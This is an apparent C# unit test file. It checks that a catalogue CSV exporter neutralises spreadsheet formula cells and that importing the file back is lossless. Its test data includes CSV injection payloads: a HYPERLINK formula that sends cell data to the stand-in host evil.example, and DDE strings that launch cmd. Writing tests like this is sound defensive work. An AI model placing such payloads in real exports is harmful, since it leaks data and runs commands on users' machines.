using System.Text;
using FastTrack.Features.Catalogue;

namespace FastTrack.Tests.Features.Catalogue;

/// <summary>Issue 22, item 4: formula cells are neutralised on export (OWASP CSV injection) and the import round trip is lossless.</summary>
public class CsvInjectionTests
{
    public static TheoryData<string, bool> Cells => new()
    {
        { "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", true },
        { "+cmd|' /C calc'!A0", true },
        { "-2+3+cmd|' /C calc'!A0", true },
        { "@SUM(1+1)*cmd|' /C calc'!A0", true },
        { "\t=1+1", true },
        { "\r=1+1", true },
        { "'=already an apostrophe", true },
        { "''+two apostrophes", true },
        { "'just a quote", false },
        { "Conduct Kickoff", false },
        { "a = b", false },
        { "キックオフ", false },
        { "", false },
    };

    [Theory]
    [MemberData(nameof(Cells))]
    public void A_formula_cell_is_written_as_text_and_read_back_as_it_was(string cell, bool formula)
    {
        var row = new CatalogueRow(2, "994", "Initiate", "Conduct Customer Kickoff", "Prepare", "M", "FastTrack Manager", "All Services", cell, "キックオフ", cell);
        var text = CatalogueCsv.Write([row]);
        var written = text.Split('\n')[1];

        Assert.Equal(formula, SafeCell.LooksLikeFormula(cell));
        if (formula)
        {
            // Quoted and led by an apostrophe: no spreadsheet runs it.
            Assert.Contains(",\"'" + cell.Replace("\"", "\"\""), written, StringComparison.Ordinal);
            Assert.DoesNotContain(",\"" + cell[0], written.Replace(",\"'", ""), StringComparison.Ordinal);
        }
        var (rows, problems) = CatalogueCsv.Parse(Encoding.UTF8.GetBytes(text));
        Assert.Empty(problems);
        var back = Assert.Single(rows);
        // Import trims each cell (leading tabs and carriage returns are not kept anyway).
        Assert.Equal(cell.Trim(), back.NameEn.Trim());
        Assert.Equal(cell.Trim(), back.NameZh.Trim());
    }

    [Fact]
    public void No_cell_of_a_written_file_starts_with_a_formula_character()
    {
        var rows = Cells.Select((c, i) => new CatalogueRow(i + 2, (1000 + i).ToString(System.Globalization.CultureInfo.InvariantCulture),
            "=Phase", "+Process", "-Section", "M", "@Role", "=Services", (string)c[0], "ja", "zh")).ToList();
        var (parsed, _) = CatalogueCsv.Parse(Encoding.UTF8.GetBytes(CatalogueCsv.Write(rows)));
        using var reader = new StringReader(CatalogueCsv.Write(rows));
        using var csv = new CsvHelper.CsvParser(reader, new CsvHelper.Configuration.CsvConfiguration(System.Globalization.CultureInfo.InvariantCulture));
        while (csv.Read())
            foreach (var field in csv.Record!)
                Assert.False(field.Length > 0 && "=+-@\t\r".Contains(field[0]), $"a cell starts with a formula character: {field}");
        Assert.Equal(rows.Select(r => (r.Phase, r.Process, r.Section, r.Role, r.Services)), parsed.Select(r => (r.Phase, r.Process, r.Section, r.Role, r.Services)));
    }
}
